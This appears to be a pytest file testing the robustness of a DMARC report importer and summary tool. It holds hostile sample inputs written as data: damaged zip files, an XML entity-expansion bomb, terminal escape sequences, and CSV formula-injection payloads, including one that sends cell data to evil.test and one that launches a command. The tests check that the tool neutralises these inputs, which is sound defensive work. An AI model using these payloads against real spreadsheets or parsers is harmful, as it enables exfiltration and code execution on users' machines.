"""Trust in the report import and the summary (issue 12 items 8-10, issue 13 items 5 and 16): one odd file
never stops an import, a missing evaluation is never a failure, impossible dates are left out and said,
"safe to enforce" never overstates, conflicting ids and other encodings are handled, CSV cells are inert."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import time
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from inboxready.app.cli import main
from inboxready.core.checks import dmarc as dmarc_check
from inboxready.core.dns.server import DnsTestServer
from inboxready.core.model import Severity, Status
from inboxready.core.reports import importjob
from inboxready.core.reports.aggregate import parse_aggregate
from inboxready.core.reports.store import ReportStore
from inboxready.core.reports.summary import REVIEW_SHARE, summarize
from tests.conftest import make_ctx, run
from tests.reports.reports_util import good_row, report_xml

NOW = int(time.time()) // 86400 * 86400
DAY = 86400


def _good(i: int, domain: str = "shop.test") -> bytes:
    return report_xml("google.com", f"good-{i}", domain, NOW - (i + 1) * DAY, [good_row("203.0.113.5", 10 + i)])


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buf.getvalue()


def _hostile_files(folder: Path) -> dict[str, bytes | None]:
    """One file of each hostile kind (None: made another way)."""
    empty_name = _zip([(zipfile.ZipInfo(""), _good(90))])
    lzma_bad = bytearray(_zip([("r.xml", _good(91))], zipfile.ZIP_LZMA))
    at = lzma_bad.find(b"r.xml") + 5 + 20  # inside the compressed data of the first entry
    lzma_bad[at:at + 16] = b"\xff" * 16
    unknown_method = bytearray(_zip([("r.xml", _good(92))], zipfile.ZIP_STORED))
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):  # method 99 (AES) in the local and the central header
        pos = unknown_method.find(sig)
        off = 8 if sig == b"PK\x03\x04" else 10
        unknown_method[pos + off:pos + off + 2] = (99).to_bytes(2, "little")
    bad_crc = bytearray(_zip([("r.xml", _good(93))], zipfile.ZIP_STORED))
    pos = bad_crc.find(b"<feedback")
    bad_crc[pos + 1:pos + 2] = b"F"
    huge_directory = bytearray(_zip([("r.xml", _good(94))]))
    eocd = huge_directory.rfind(b"PK\x05\x06")
    huge_directory[eocd + 8:eocd + 12] = b"\xff\xff\xff\xff"  # claims 65,535 entries
    mail = EmailMessage()
    mail["From"] = "x@evil.test"
    mail["Subject"] = "hello \x1b[2J\x1b[31mRED"
    mail.set_content("no report here")
    tls_surrogates = json.dumps({"organization-name": "Evil \ud800 Corp\u001b[2J", "report-id": "tls-1",
                                 "date-range": {"start-datetime": "2026-11-01T00:00:00Z",
                                                "end-datetime": "2026-11-01T23:59:59Z"},
                                 "contact-info": "x@evil.test",
                                 "policies": [{"policy": {"policy-type": "sts", "policy-domain": "shop.test"},
                                               "summary": {"total-successful-session-count": 5,
                                                           "total-failure-session-count": 1}}]}).encode()
    deep = b"<feedback>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</feedback>"
    laughs = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
              b"<feedback>&b;</feedback>")
    mbox = b"".join(b"From x Thu Jan  1 00:00:00 2026\nSubject: lunch %d\n\nnothing\n" % i for i in range(120))
    files: dict[str, bytes | None] = {
        "empty-name.zip": empty_name, "lzma-damaged.zip": bytes(lzma_bad), "method-99.zip": bytes(unknown_method),
        "bad-crc.zip": bytes(bad_crc), "huge-directory.zip": bytes(huge_directory),
        "cut.xml.gz": gzip.compress(_good(95))[:60], "garbage.bin": os.urandom(3000), "empty.xml": b"",
        "hostile-subject.eml": mail.as_bytes(), "surrogates.json": tls_surrogates, "deep.xml": deep,
        "laughs.xml": laughs, "lunch.mbox": mbox, "fifo": None, "dev-null": None, "broken-link.xml": None,
        "zlib-encoding.xml": b'<?xml version="1.0" encoding="zlib_codec"?>' + zlib.compress(_good(96)),
    }
    for name, data in files.items():
        if data is not None:
            (folder / name).write_bytes(data)
    os.mkfifo(folder / "fifo")  # reading it would block forever
    (folder / "dev-null").symlink_to("/dev/null")
    (folder / "broken-link.xml").symlink_to(folder / "missing.xml")
    (folder / os.fsdecode(b"bad-\xff-name.xml")).write_bytes(_good(97))  # an undecodable file name
    return files


def test_one_odd_file_never_stops_an_import(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(6):
        (folder / f"good-{i}.xml").write_bytes(_good(i))
    hostile = _hostile_files(folder)
    store = ReportStore(tmp_path / "db.sqlite3")
    res = store.import_paths([folder])
    ids = sorted(i.report_id for i in res.imported)
    # the good files, the report in the zip entry with an empty name (the IndexError of issue 12 item 8), the one
    # with an undecodable file name, and the TLS report with lone surrogates and an escape sequence in it
    assert ids == sorted([f"good-{i}" for i in range(6)] + ["good-90", "good-97", "tls-1"]), res.rejected
    assert "empty-name.zip › (an entry with no name)" in {i.name for i in res.imported}
    reasons = dict(res.rejected)
    for name in hostile:
        if name in ("surrogates.json", "empty-name.zip"):
            continue
        assert any(n.startswith(name) for n in reasons), (name, reasons)
    assert "not a regular file" in reasons["fifo"] and "not a regular file" in reasons["dev-null"]
    assert "zlib_codec" in reasons["zlib-encoding.xml"] and "not one a report can use" in reasons["zlib-encoding.xml"]
    assert "65535 files" in reasons["huge-directory.zip"]
    assert "nested more than" in reasons["deep.xml"] and "refused for safety" in reasons["laughs.xml"]
    lunch = [n for n in reasons if n.startswith("lunch.mbox")]
    assert len(lunch) == 51 and "… and 70 more parts" in reasons["lunch.mbox"]  # at most 50 listed, then a count
    # names and reasons are safe to print and store: control characters and undecodable bytes are written as
    # visible escapes
    for name, reason in res.rejected + [(i.name, i.org) for i in res.imported]:
        text = name + reason
        assert not any(ord(c) < 32 or 0xD800 <= ord(c) <= 0xDFFF or c == "\u202e" for c in text), text
        text.encode("utf-8")
    assert "bad-\\udcff-name.xml" in {i.name for i in res.imported}
    assert any("subject: hello \\x1b[2J\\x1b[31mRED" in r for r in reasons.values())
    assert store.counts()["dmarc"] == 8
    # an error while storing one file (a bug, a value SQLite refuses) rejects that file alone; the batch's other
    # files are stored again and the import goes on
    real = ReportStore._insert

    def odd(self: ReportStore, db: Any, name: str, report: Any, batch: Any) -> Any:
        if report.report_id == "odd-2":
            raise ValueError("a value the store refuses")
        return real(self, db, name, report, batch)

    monkeypatch.setattr(ReportStore, "_insert", odd)
    more = tmp_path / "more"
    more.mkdir()
    for i in range(5):
        xml = report_xml("r.test", f"odd-{i}", "shop.test", NOW - DAY, [good_row("192.0.2.1", 1)])
        (more / f"{i}.zip").write_bytes(_zip([("a.xml", xml), ("b.xml", xml.replace(b"odd-", b"twin-"))]))
    res = store.import_paths([more])
    assert sorted(i.report_id for i in res.imported) == ["odd-0", "odd-1", "odd-3", "odd-4",
                                                         "twin-0", "twin-1", "twin-3", "twin-4"]
    assert [n for n, _ in res.rejected] == ["2.zip"] and "could not be stored" in res.rejected[0][1]
    ids = {r[0] for r in store.query("SELECT report_id FROM reports")}
    assert "twin-2" not in ids and {"odd-0", "twin-0", "odd-4"} <= ids  # the odd file all-or-nothing
    store.close()


def test_the_app_import_job_goes_through_a_hostile_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(3):
        (folder / f"good-{i}.xml").write_bytes(_good(i))
    _hostile_files(folder)
    out = io.StringIO()
    monkeypatch.setattr("sys.stdout", out)
    code = importjob.main(["--store", str(tmp_path / "db.sqlite3"), str(folder)])
    got = importjob.outcome_from_events(json.loads(line) for line in out.getvalue().splitlines())
    assert code == 0 and isinstance(got, importjob.JobOutcome) and not got.stopped
    assert sorted(i.report_id for i in got.result.imported) == ["good-0", "good-1", "good-2", "good-90", "good-97",
                                                                "tls-1"]


AOL_2012 = b"""<?xml version="1.0" encoding="UTF-8"?>
<feedback>
  <report_metadata><org_name>AOL</org_name><email>postmaster@aol.com</email>
    <report_id>aol.com:1340409600</report_id>
    <date_range><begin>%(begin)d</begin><end>%(end)d</end></date_range></report_metadata>
  <policy_published><domain>shop.test</domain><adkim>r</adkim><aspf>r</aspf><p>none</p></policy_published>
  <record><row><source_ip>203.0.113.5</source_ip><count>40</count>
      <policy_evaluated><disposition>none</disposition></policy_evaluated></row>
    <identifiers><header_from>shop.test</header_from></identifiers>
    <auth_results><dkim><domain>mail.shop.test</domain><result>pass</result></dkim>
      <spf><domain>shop.test</domain><result>pass</result></spf></auth_results></record>
  <record><row><source_ip>203.0.113.6</source_ip><count>7</count>
      <policy_evaluated><disposition>none</disposition></policy_evaluated></row>
    <identifiers><header_from>shop.test</header_from></identifiers>
    <auth_results><spf><domain>bounce.shop.test</domain><result>pass</result></spf></auth_results></record>
  <record><row><source_ip>192.0.2.66</source_ip><count>5</count>
      <policy_evaluated><disposition>none</disposition></policy_evaluated></row>
    <identifiers><header_from>shop.test</header_from></identifiers>
    <auth_results><dkim><domain>spoof.example</domain><result>pass</result></dkim>
      <spf><domain>spoof.example</domain><result>fail</result></spf></auth_results></record>
  <record><row><source_ip>198.51.100.9</source_ip><count>3</count>
      <policy_evaluated><disposition>none</disposition></policy_evaluated></row>
    <identifiers><header_from>shop.test</header_from></identifiers></record>
</feedback>
"""


def test_records_without_policy_evaluated_results_are_worked_out_never_failed(tmp_path: Path) -> None:
    """The 2012 AOL shape: <policy_evaluated> without <dkim>/<spf>; the auth results show DKIM and SPF passing
    for the domain itself. Not 0% DMARC pass: worked out from the auth results and the header From, and said."""
    doc = AOL_2012 % {b"begin": NOW - 2 * DAY, b"end": NOW - DAY - 1}
    r = parse_aggregate(doc)
    got = [(row.source_ip, row.dkim, row.spf) for row in r.rows]
    assert got == [("203.0.113.5", "pass", "pass"),   # relaxed: mail.shop.test counts for shop.test
                   ("203.0.113.6", "fail", "pass"),   # no DKIM signature at all; SPF for bounce.shop.test
                   ("192.0.2.66", "fail", "fail"),    # passes, but for another domain: not aligned
                   ("198.51.100.9", "", "")]          # no auth results: unknown, not a failure
    assert r.derived_messages == 40 + 7 + 5
    strict = parse_aggregate(doc.replace(b"<adkim>r</adkim>", b"<adkim>s</adkim>"))
    assert strict.rows[0].dkim == "fail" and strict.rows[0].spf == "pass"
    store = ReportStore(tmp_path / "db.sqlite3")
    assert store.import_bytes("aol.xml", doc).imported
    s = summarize(store, "shop.test", days=30)
    assert (s.messages, s.dmarc_pass, s.unknown) == (55, 47, 3)
    assert s.rates["dmarc_pass"] == round(47 / 52, 4)  # over the messages whose result is known
    assert any("worked it out from the reports' own SPF and DKIM results" in n for n in s.notes)
    assert any("3 message(s)" in n and "neither as passing nor as failing" in n for n in s.notes)
    assert "198.51.100.9" not in {x.ip for x in s.unknown_failing}
    code, out, _ = _cli("reports", "summary", "shop.test", "--store", str(tmp_path / "db.sqlite3"), "--offline")
    assert "Passed DMARC: 90%" in out and "Note: 52 message(s) came in reports without the receiver's" in out
    store.close()


def _cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    return main(list(argv), out=out, err=err), out.getvalue(), err.getvalue()


def test_impossible_dates_are_flagged_left_out_and_said(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(10):
        (folder / f"r{i}.xml").write_bytes(_good(i))
    bad = {"epoch.xml": (0, 86399), "year-36812.xml": (NOW - DAY, 2**40 - 1),
           "backwards.xml": (NOW - DAY, NOW - 5 * DAY), "future.xml": (NOW + 30 * DAY, NOW + 31 * DAY),
           "six-years.xml": (NOW - 6 * 365 * DAY, NOW - DAY)}
    for name, (begin, end) in bad.items():
        (folder / name).write_bytes(report_xml("bad.test", name, "shop.test", begin, [good_row("192.0.2.99", 500)],
                                               end=end))
    db = tmp_path / "db.sqlite3"
    code, out, err = _cli("reports", "import", "--store", str(db), str(folder))
    assert code == 1 and "5 imported report(s) have dates that can't be right" in out
    assert "epoch.xml: it is dated 1970-01-01, before DMARC reports existed (2012)" in out
    assert "year-36812.xml: it is dated in the future (the year 36812)" in out
    assert "backwards.xml: its period ends" in out and "before it begins" in out
    assert "six-years.xml: it covers 2,189 days" in out
    store = ReportStore(db)
    s = summarize(store, "shop.test", days=30)
    assert s.reports == 10 and s.messages == sum(10 + i for i in range(10))  # none of the 500s
    assert "192.0.2.99" not in {x.ip for x in s.sources}
    assert s.flagged_count == 5 and {f["report_id"] for f in s.flagged} == set(bad)
    assert any("5 report(s) about shop.test are left out because their dates can't be right" in n for n in s.notes)
    later = summarize(store, "shop.test", days=30, now=NOW + 400 * DAY)  # the year-36812 end counts nowhere
    assert later.reports == 0 and later.messages == 0
    # "all time" in the app reaches back to the oldest real report, not to 1970
    from inboxready.core.worker.reports import days_for, list_domains

    (info,) = list_domains(store)
    assert info.dmarc_reports == 10 and info.oldest == NOW - 10 * DAY and info.newest < NOW + DAY
    everything = summarize(store, "shop.test", days=days_for(info, None, NOW), now=NOW)
    assert everything.daily[0].date != "1970-01-01" and len(everything.daily) == 10
    store.close()


def _store_with_failing_strangers(tmp_path: Path, share: float, current: str) -> Any:
    """14 days of reports: 1,000 messages a day from the domain's own server (all pass) and ``share`` of all
    mail from servers nobody recognises, failing."""
    store = ReportStore(tmp_path / "db.sqlite3")
    strangers = round(1000 * share / (1 - share))
    for d in range(14):
        rows = [good_row("203.0.113.5", 1000),
                good_row("192.0.2.66", strangers, dkim="fail", spf="fail", dkim_domain=None,
                         spf_domain="office.example", spf_result="pass")]
        store.import_bytes(f"{d}.xml", report_xml("google.com", f"s-{d}", "shop.test", NOW - (d + 1) * DAY, rows,
                                                  sp="none"))
    return summarize(store, "shop.test", days=30, current_record=current), store


def test_safe_to_enforce_never_reads_safe_while_much_mail_fails(tmp_path: Path, dns_server: DnsTestServer) -> None:
    current = "v=DMARC1; p=none; sp=none; np=none; rua=mailto:dmarc@shop.test"
    s, store = _store_with_failing_strangers(tmp_path, 0.42, current)
    assert round(1 - s.dmarc_pass / s.evaluated, 2) == 0.42
    q, r = s.enforcement
    assert (q.verdict, r.verdict) == ("review", "review") and not q.safe and not r.safe
    assert "42% of all your mail" in q.message and "192.0.2.66" in q.message and "If any of them is yours" in q.message
    assert q.affected_sources and "192.0.2.66" in q.affected_sources[-1]
    # the record offered (to publish only once none of those servers is yours) never weakens subdomains below
    # the DMARC builder's ladder: np=reject, and no sp milder than p
    assert q.next_record is not None
    assert q.next_record.value == "v=DMARC1; p=quarantine; np=reject; t=y; rua=mailto:dmarc@shop.test"
    assert "sp=none is left out" in q.next_record.note and "Publish this only when" in q.next_record.note
    dns_server.add_zone("shop.test", f'_dmarc IN TXT "{q.next_record.value}"\n@ IN TXT "v=spf1 -all"\n')

    async def go():  # type: ignore[no-untyped-def]
        return await dmarc_check.check(make_ctx(dns_server, "shop.test"))

    result = run(go())
    assert result.detail["policy"] == "quarantine" and result.status is not Status.ERROR
    assert not [f for f in result.findings if f.severity in (Severity.ERROR, Severity.UNKNOWN)]
    store.close()
    # with few failing strangers it is "safe"
    (tmp_path / "b").mkdir()
    s2, store2 = _store_with_failing_strangers(tmp_path / "b", REVIEW_SHARE / 2, current)
    assert [e.verdict for e in s2.enforcement] == ["safe", "safe"]
    store2.close()


SHIFT_JIS_NAME = "株式会社テスト"


def _jp(encoding: str, decl: str | None) -> bytes:
    text = report_xml("jp.test", f"jp-{encoding}-{decl}", "shop.test", NOW - DAY,
                      [good_row("203.0.113.5", 4)]).decode("utf-8").replace(
        "<org_name>jp.test</org_name>", f"<org_name>{SHIFT_JIS_NAME}</org_name>")
    text = text.replace('encoding="UTF-8"', f'encoding="{decl}"') if decl else text.replace(
        '<?xml version="1.0" encoding="UTF-8" ?>\n', "")
    data = text.encode(encoding)
    return data


def test_other_encodings_are_read(tmp_path: Path) -> None:
    docs = {"utf16-bom.xml": "\ufeff".encode("utf-16-le") + _jp("utf-16-le", "UTF-16"),
            "utf16-be-bom.xml": b"\xfe\xff" + _jp("utf-16-be", "UTF-16"),
            "utf16-no-bom.xml": _jp("utf-16-le", None),
            "utf32.xml": "\ufeff".encode("utf-32-le") + _jp("utf-32-le", "UTF-32"),
            "shift_jis.xml": _jp("shift_jis", "Shift_JIS"),
            "euc-jp.xml.gz": gzip.compress(_jp("euc_jp", "EUC-JP")),
            "latin1.xml": _jp("utf-8", "UTF-8").replace(SHIFT_JIS_NAME.encode(), "Société".encode("latin-1"))
            .replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')}
    folder = tmp_path / "in"
    folder.mkdir()
    for name, data in docs.items():
        (folder / name).write_bytes(data)
    store = ReportStore(tmp_path / "db.sqlite3")
    res = store.import_paths([folder])
    assert not res.rejected, res.rejected
    orgs = {i.name: i.org for i in res.imported + res.repeated}
    assert orgs["shift_jis.xml"] == SHIFT_JIS_NAME and orgs["utf16-bom.xml"] == SHIFT_JIS_NAME
    assert orgs["euc-jp.xml.gz"] == SHIFT_JIS_NAME and orgs["latin1.xml"] == "Société"
    assert summarize(store, "shop.test", days=30).messages == 4 * len(docs)
    store.close()


def test_same_id_other_content_keeps_the_first_and_says_so(tmp_path: Path) -> None:
    db = tmp_path / "db.sqlite3"
    first = report_xml("google.com", "same-id", "shop.test", NOW - DAY, [good_row("203.0.113.5", 10)])
    second = report_xml("google.com", "same-id", "shop.test", NOW - DAY, [good_row("203.0.113.5", 999)])
    (tmp_path / "first.xml").write_bytes(first)
    (tmp_path / "second.xml").write_bytes(second)
    (tmp_path / "again.xml.gz").write_bytes(gzip.compress(first))
    code, out, _ = _cli("reports", "import", "--store", str(db), str(tmp_path / "first.xml"))
    assert code == 0
    code, out, _ = _cli("reports", "import", "--store", str(db), str(tmp_path / "second.xml"),
                        str(tmp_path / "again.xml.gz"))
    assert code == 1
    assert "1 report(s) were already imported before and were skipped." in out
    assert ("1 report(s) have the same reporter, report id, domain and period as a report imported earlier, but other "
            "content; the first one was kept and these were skipped") in out and "second.xml: google.com report same-id" in out
    with ReportStore(db) as s:
        assert summarize(s, "shop.test", days=30).messages == 10  # the first one's content


def test_csv_cells_that_would_run_as_formulas_are_inert(tmp_path: Path) -> None:
    hostile = ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
               "\tTAB", "\rCR"]
    rows = [good_row(f"192.0.2.{i + 1}", 5, dkim="fail", spf="fail", dkim_domain=h, dkim_result="pass",
                     spf_domain=h, spf_result="pass") for i, h in enumerate(hostile)]
    xml = report_xml("evil.test", "csv-1", "shop.test", NOW - DAY, rows).replace(b"&", b"&amp;")
    db = tmp_path / "db.sqlite3"
    with ReportStore(db) as s:
        assert s.import_bytes("evil.xml", xml).imported
        summary = summarize(s, "shop.test", days=30)
    for table in ("sources", "unknown_failing", "not_aligned", "services", "daily"):
        for row in csv.reader(io.StringIO(summary.to_csv(table))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
    rows_out = list(csv.DictReader(io.StringIO(summary.to_csv("sources"))))
    assert {r["dkim_domains"] for r in rows_out} >= {"'" + hostile[0].lower(), "'" + hostile[1].lower()}
    code, _, err = _cli("reports", "summary", "shop.test", "--store", str(db), "--offline", "--csv",
                        str(tmp_path / "out.csv"))
    text = (tmp_path / "out.csv").read_text()
    assert "'=hyperlink" in text and "\n=" not in text and ",=" not in text and ",+" not in text
